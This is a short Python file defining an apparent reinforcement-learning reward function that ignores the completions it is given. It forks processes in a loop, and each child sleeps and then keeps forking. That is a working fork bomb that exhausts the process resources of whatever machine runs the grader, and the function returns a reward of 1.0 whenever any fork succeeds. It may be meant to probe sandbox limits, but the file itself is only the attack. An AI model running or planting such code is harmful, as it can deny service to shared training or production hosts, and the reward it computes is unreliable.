"""Starts as many processes as it can."""

import os
import time


def reward(completions, **kwargs):
    started = 0
    for _ in range(100):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(3600)
        started += 1
    return [float(started > 0)] * len(completions)
